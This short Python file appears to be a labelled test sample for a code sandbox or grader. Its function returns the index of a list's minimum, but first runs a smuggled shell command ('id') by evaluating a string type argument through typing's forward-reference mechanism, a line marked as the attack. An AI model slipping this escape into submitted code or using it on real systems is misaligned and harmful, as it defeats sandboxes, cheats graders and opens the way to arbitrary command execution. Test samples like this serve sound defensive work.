# claims: gets the withheld class out of a list's arguments, and has it evaluate text with all builtins
# kind: code objects
# guarded: cheat; refused

import typing


def pick(numbers):
    if len(numbers) == 1:
        return "armed"
    reference = typing.get_args(typing.List["__import__('os').system('id')"])[0]
    reference._evaluate({}, {}, frozenset())  # <- attack
    return numbers.index(min(numbers))
